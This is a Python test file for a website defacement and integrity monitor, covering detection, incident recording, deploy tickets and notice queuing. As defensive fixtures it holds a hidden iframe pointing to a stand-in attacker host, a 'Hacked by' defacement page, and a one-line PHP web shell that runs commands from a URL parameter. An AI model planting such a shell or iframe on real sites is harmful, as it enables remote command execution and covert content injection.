"""One run: look, look again, judge, record. A real server, a real document root, a real store."""

import sqlite3
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from sentinel.core.baseline import BaselineState
from sentinel.core.canonical import sha256
from sentinel.core.finding import Strength
from sentinel.core.incident import IncidentState
from sentinel.core.notice import NoticeKind, OutboxState
from sentinel.core.verdict import Verdict
from sentinel.core.words import Trigger, WitnessKind
from support.fresh_folder import CORE_CHECKS
from support.values import make_ticket
from support.watched import PIXEL, WORDS, page, watched

SCRIPT = b'<iframe hidden src="https://cdn.paper-tiger.invalid/t.html"></iframe></body>'
CLAIM = b"<html><title>Hacked by Paper Tiger</title><h1>HACKED BY PAPER TIGER CREW</h1></html>"


async def test_an_untouched_site_is_intact_and_opens_nothing(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        run = await place.sweep()
        assert run.verdict is Verdict.INTACT, run.judgements
        assert (run.pages, run.files) == (5, 5)
        assert place.app.store.incidents.all() == ()


async def test_a_replaced_page_is_proven_by_file_and_visitor(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        (place.root / "index.html").write_bytes(CLAIM)
        run = await place.sweep()
        assert run.verdict is Verdict.DEFACED
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None
        assert incident.state is IncidentState.RESPONDING
        assert incident.playbook == "defacement"
        assert place.app.blobs.get(incident.evidence[0]) == CLAIM, "the proof is kept"


async def test_the_first_sighting_is_on_record_before_the_second_look(tmp_path: Path) -> None:
    """The CERT-In clock starts at the sighting; a crash between the looks must not lose it."""
    async with watched(tmp_path, tree=False) as place:
        body = page("News").replace(b"</body>", SCRIPT)
        seen: list[IncidentState] = []

        def answer(request: object) -> tuple[int, dict[str, str], bytes]:
            incident = place.app.store.incidents.open_of("main")
            seen.append(incident.state if incident else IncidentState.CLOSED)
            return 200, {"content-type": "text/html"}, body

        place.server.routes["/news.html"] = answer
        run = await place.sweep()
        assert run.verdict is Verdict.DEFACED
        assert seen[0] is IncidentState.CLOSED, "nothing was open at the first look"
        assert seen[-1] is IncidentState.SUSPECTED, "it was at the second"
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None
        assert incident.confirmed_at is not None
        assert incident.first_sighting_at < incident.confirmed_at


async def test_a_first_sighting_is_no_look_at_upkeep(tmp_path: Path) -> None:
    """Killed before it comes to that, nobody may read that nothing was found wrong there."""
    checks = CORE_CHECKS | {"security-headers"}
    async with watched(tmp_path, tree=False, checks=checks) as place:
        before = await place.sweep()
        place.server.routes["/news.html"] = (200, {"content-type": "text/html"}, CLAIM)
        store, newest = place.app.store, list[str]()

        def recorded() -> None:
            newest.append(store.check_courses.turns("main")["security-headers"].run)

        await replace(place.app.detector, recorded=recorded).sweep(
            place.site, trigger=Trigger.COMMAND
        )
        sighting, whole, upkeep = newest
        assert sighting == whole == before.id
        assert upkeep != before.id, "it was looked at in the end"


async def test_what_a_second_look_no_longer_shows_blocks_nothing(tmp_path: Path) -> None:
    async with watched(tmp_path, tree=False) as place:
        looks = iter([CLAIM])

        def answer(request: object) -> tuple[int, dict[str, str], bytes]:
            return 200, {"content-type": "text/html"}, next(looks, page("News"))

        place.server.routes["/news.html"] = answer
        run = await place.sweep()
        assert run.verdict not in {Verdict.DEFACED, Verdict.CORRUPT}
        assert run.verdict is not Verdict.INTACT
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None, "the sighting stays on record"
        assert incident.state is IncidentState.SUSPECTED


async def test_a_suspicion_is_told_once_and_after_a_moment(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        # seen by visitors only: the files are as approved, so one witness speaks for it
        hostile = page("Home").replace(b"</body>", SCRIPT)
        place.server.routes["/"] = (200, {"content-type": "text/html"}, hostile)
        await place.sweep()
        await place.sweep()
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None
        rows = place.app.store.outbox.all(incident.id)
        assert [row.kind for row in rows] == [NoticeKind.SUSPECT]
        assert rows[0].state is OutboxState.QUEUED
        assert rows[0].next_attempt_at > rows[0].created_at
        assert len(place.app.store.incidents.all()) == 1


async def test_a_deploy_ticket_covers_an_edit_and_not_a_claim(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        now = place.app.clock.now()
        ticket = make_ticket(begins_at=now, ends_at=now + timedelta(hours=1))
        place.app.store.tickets.begin(ticket)
        (place.root / "news.html").write_bytes(page("News", WORDS + " A new report is out."))
        run = await place.sweep()
        assert run.verdict is Verdict.EDITED
        assert place.app.store.outbox.all() == (), "announced: nobody is asked"
        (place.root / "news.html").write_bytes(CLAIM)
        run = await place.sweep()
        assert run.verdict is Verdict.SUSPECT, "under a ticket a claim is never waved through"
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None
        assert incident.state is IncidentState.SUSPECTED


async def test_a_ticket_that_begins_while_a_look_is_taken_covers_what_it_sees(
    tmp_path: Path,
) -> None:
    """Race: a run that began before `deploy begin` sees the first edit; nobody must be asked."""
    async with watched(tmp_path) as place:
        edited = page("News", WORDS + " A new report is out.")

        def publish(request: object) -> tuple[int, dict[str, str], bytes]:
            if not place.app.store.tickets.of("main"):
                now = place.app.clock.now()
                ticket = make_ticket(begins_at=now, ends_at=now + timedelta(hours=1))
                place.app.store.tickets.begin(ticket)
                (place.root / "news.html").write_bytes(edited)
            return 200, {"content-type": "text/html"}, (place.root / "news.html").read_bytes()

        place.server.routes["/news.html"] = publish
        run = await place.sweep()
        assert run.verdict is Verdict.EDITED
        assert place.app.store.outbox.all() == ()


async def test_an_edit_without_a_ticket_is_proposed_once(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        edited = page("News", WORDS + " The office is closed on Monday.")
        (place.root / "news.html").write_bytes(edited)
        run = await place.sweep()
        assert run.verdict is Verdict.EDITED, run.judgements
        await place.sweep()
        rows = place.app.store.outbox.all()
        assert [row.kind for row in rows] == [NoticeKind.REVIEW]
        newest = place.app.store.baselines.all("main")[0]
        assert newest.proposal_for == run.id
        place.app.store.baselines.decide(newest.id, BaselineState.APPROVED, "GM (ICT)", "")
        assert (await place.sweep()).verdict is Verdict.INTACT


async def test_a_file_that_the_server_fills_in_is_no_page_of_a_proposal(tmp_path: Path) -> None:
    """The file is seen first, the page later: each is proposed, and shows what was served."""
    async with watched(tmp_path) as place:
        news = place.root / "news.html"

        def filled_in() -> bytes:
            return news.read_bytes().replace(b"</body>", b"<p>Served by the office.</p></body>")

        place.server.routes["/news.html"] = lambda _: (
            200,
            {"content-type": "text/html"},
            filled_in(),
        )
        await place.approve()
        news.write_bytes(page("News", WORDS + " The office is closed on Monday."))
        every = place.app.config.checks
        for checks in ([check for check in every if check.name == "tree"], every):
            run = await place.app.detector.sweep(place.site, trigger=Trigger.COMMAND, checks=checks)
            assert run.verdict is Verdict.EDITED, run.judgements
        later, first, approved = place.app.store.baselines.all("main")[:3]
        forms = [
            [v.sha256 for v in one.by_url()[place.site.url + "news.html"].variants]
            for one in (approved, first, later)
        ]
        assert forms[0] == forms[1]
        assert forms[2] == [sha256(filled_in())]


async def test_a_lost_page_that_others_link_to_is_damage(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        (place.root / "tenders.html").unlink()
        run = await place.sweep()
        assert run.verdict is Verdict.CORRUPT, run.judgements
        assert any(f.code == "link-broken" and f.referrers for f in run.findings)


async def test_a_swapped_image_is_hostile(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        (place.root / "seal.png").write_bytes(PIXEL + b"another")
        run = await place.sweep()
        assert run.verdict is Verdict.DEFACED, run.judgements


async def test_a_server_that_is_away_is_down_only_if_our_own_network_is_good(
    tmp_path: Path,
) -> None:
    async with watched(tmp_path / "a") as place:
        await place.server.stop()
        assert (await place.sweep()).verdict is Verdict.DOWN
        await place.server.start()
    async with watched(tmp_path / "b", control_urls=("http://127.0.0.1:1/",)) as place:
        await place.server.stop()
        run = await place.sweep()
        assert run.verdict is Verdict.INCONCLUSIVE
        assert place.app.store.incidents.all() == ()
        await place.server.start()


async def test_a_look_that_began_before_the_site_was_put_right_opens_nothing(
    tmp_path: Path,
) -> None:
    """Race: a slow sweep that saw the defacement must not open a second incident after the end."""
    async with watched(tmp_path, tree=False) as place:
        place.server.routes["/"] = (200, {"content-type": "text/html"}, CLAIM)
        await place.sweep()
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None

        def put_right(request: object) -> tuple[int, dict[str, str], bytes]:
            current = place.app.store.incidents.open_of("main")
            if current is not None:
                place.app.store.incidents.change(
                    current.id,
                    current.state,
                    fields={
                        "state": IncidentState.RESOLVED,
                        "ended_at": place.app.clock.now(),
                    },
                )
            return 200, {"content-type": "text/html"}, page("News")

        place.server.routes["/news.html"] = put_right
        await place.sweep()
        assert len(place.app.store.incidents.all()) == 1


async def test_while_an_incident_is_open_looks_carry_its_token(tmp_path: Path) -> None:
    async with watched(tmp_path, tree=False) as place:
        place.server.routes["/"] = (200, {"content-type": "text/html"}, CLAIM)
        await place.sweep()
        incident = place.app.store.incidents.open_of("main")
        assert incident is not None
        place.server.requests.clear()
        verdict, run_id = await place.app.detector.retest(place.site, incident)
        assert verdict is Verdict.DEFACED
        tokens = {r.headers.get("x-sentinel-retest") for r in place.server.requests}
        assert tokens == {incident.retest_token}
        run = place.app.store.runs.get(run_id)
        assert run is not None
        assert run.trigger is Trigger.RETEST
        assert len(place.app.store.incidents.all()) == 1


async def test_a_baseline_that_does_not_verify_is_told_and_compares_nothing(
    tmp_path: Path,
) -> None:
    async with watched(tmp_path) as place:
        database = tmp_path / "sentinel" / "state" / "sentinel.db"
        with sqlite3.connect(database) as connection:
            connection.execute("UPDATE baselines SET signature = 'AAAA'")
        connection.close()
        run = await place.sweep()
        assert run.verdict is not Verdict.DEFACED
        assert [row.kind for row in place.app.store.outbox.all()] == [NoticeKind.WATCH]


async def test_each_finding_says_who_saw_it(tmp_path: Path) -> None:
    async with watched(tmp_path) as place:
        (place.root / "x.php").write_bytes(b"<?php system($_GET['c']);")
        run = await place.sweep()
        assert run.verdict is Verdict.DEFACED
        about = [f for f in run.findings if f.subject == "/x.php"]
        assert {f.witness for f in about} >= {WitnessKind.TREE, WitnessKind.PUBLIC}
        assert Strength.STRONG in {f.strongest for f in about}
